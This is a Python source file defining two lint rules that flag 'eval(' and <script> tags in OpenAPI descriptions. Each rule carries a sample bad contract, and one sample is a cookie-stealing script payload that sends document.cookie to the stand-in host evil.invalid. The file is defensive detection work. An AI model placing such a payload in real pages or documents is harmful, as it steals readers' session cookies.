"""Rules about what Markdown text may carry into rendered documentation.

Descriptions and titles end up as HTML in documentation portals. Finding them means
looking at every description in every file, so the files' raw text is searched first (one
substring scan in C, about a millisecond for Stripe's 4 MB); only a file whose text
contains the pattern is then walked, to point at the exact field.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from ledgerpact.governance.lint.catalog import rule
from ledgerpact.governance.lint.index import Index
from ledgerpact.governance.lint.model import OAS3, Loc, Violation

_FIELDS = ("description", "title", "summary")


def _files(index: Index) -> list[str]:
    """The files this contract is made of (the workspace may hold other contracts' too)."""
    files = {index.root}
    files.update(use.target.file for use in index.refs if use.target is not None)
    return sorted(files)


def _texts(index: Index, raw_hit: Callable[[str], bool], pattern: re.Pattern[str]
           ) -> Iterator[tuple[Loc, str, str]]:
    """(where, field, text) of each description/title/summary matching ``pattern``, in the
    files whose raw text ``raw_hit`` accepts (it must also accept escaped spellings)."""
    for file in _files(index):
        document = index.ws.document(file)
        if raw_hit(document.text):
            yield from _matching_fields(document.data, Loc(file, ""), pattern)


def _matching_fields(data: object, loc: Loc, pattern: re.Pattern[str]
                     ) -> Iterator[tuple[Loc, str, str]]:
    work: list[tuple[object, Loc]] = [(data, loc)]
    while work:
        node, where = work.pop()
        if isinstance(node, dict):
            for key, value in node.items():
                if key in _FIELDS and isinstance(value, str) and pattern.search(value):
                    yield where.child(key), key, value
                elif isinstance(value, (dict, list)):
                    work.append((value, where.child(key)))
        elif isinstance(node, list):
            work.extend((sub, where.child(i)) for i, sub in enumerate(node)
                        if isinstance(sub, (dict, list)))


_EVAL = re.compile(r"eval\(")
_SCRIPT = re.compile(r"<script", re.IGNORECASE)
# Spelled-out case classes: several times faster than re.IGNORECASE on megabytes of text.
_SCRIPT_RAW = re.compile(r"<[sS][cC][rR][iI][pP][tT]")
# "<" may also be escaped in the file's text: \u003c in JSON and YAML, \x3c in YAML (Go's
# JSON encoder writes every "<" that way).
_ESCAPED_LT = re.compile(r"\\(?:u003[cC]|x3[cC])")


def _may_have_eval(raw: str) -> bool:
    return "eval(" in raw


def _may_have_script(raw: str) -> bool:
    return bool(_SCRIPT_RAW.search(raw) or _ESCAPED_LT.search(raw))


@rule(
    "oas-no-eval-in-markdown",
    severity="warn",
    family="oas",
    formats=OAS3,
    summary="Descriptions, titles and summaries contain no 'eval(' (spectral:oas "
            "no-eval-in-markdown).",
    why="""Contracts from partners and vendors are rendered into our documentation portal;
    a JavaScript `eval(` in a description is the usual shape of an injection that runs in
    the reader's browser on our domain.""",
    bad="""openapi: 3.1.0
info:
  title: Payments
  version: 1.0.0
  description: "Totals are computed with eval(document.cookie)."
paths: {}
""",
    good="""openapi: 3.1.0
info:
  title: Payments
  version: 1.0.0
  description: Totals are computed by the ERP when the invoice is posted.
paths: {}
""",
)
def no_eval_in_markdown(index: Index) -> Iterator[Violation]:
    for loc, field, _ in _texts(index, _may_have_eval, _EVAL):
        yield Violation(loc, f"{field} contains 'eval(', which could run script where the "
                             "documentation is rendered; expected plain text or Markdown")


@rule(
    "oas-no-script-tags-in-markdown",
    severity="warn",
    family="oas",
    formats=OAS3,
    summary="Descriptions, titles and summaries contain no <script> tag, in any letter case "
            "(spectral:oas no-script-tags-in-markdown).",
    why="""Markdown allows raw HTML, and many portals render it unsanitised: a `<script>` in
    a description runs in every reader's browser with the portal's cookies.""",
    bad="""openapi: 3.1.0
info:
  title: Payments
  version: 1.0.0
  description: "Payments API <script>fetch('https://evil.invalid/'+document.cookie)</script>"
paths: {}
""",
    good="""openapi: 3.1.0
info:
  title: Payments
  version: 1.0.0
  description: Payments API. See the **payments guide** for examples.
paths: {}
""",
)
def no_script_tags_in_markdown(index: Index) -> Iterator[Violation]:
    for loc, field, _ in _texts(index, _may_have_script, _SCRIPT):
        yield Violation(loc, f"{field} contains a <script> tag, which could run where the "
                             "documentation is rendered; expected plain text or Markdown")
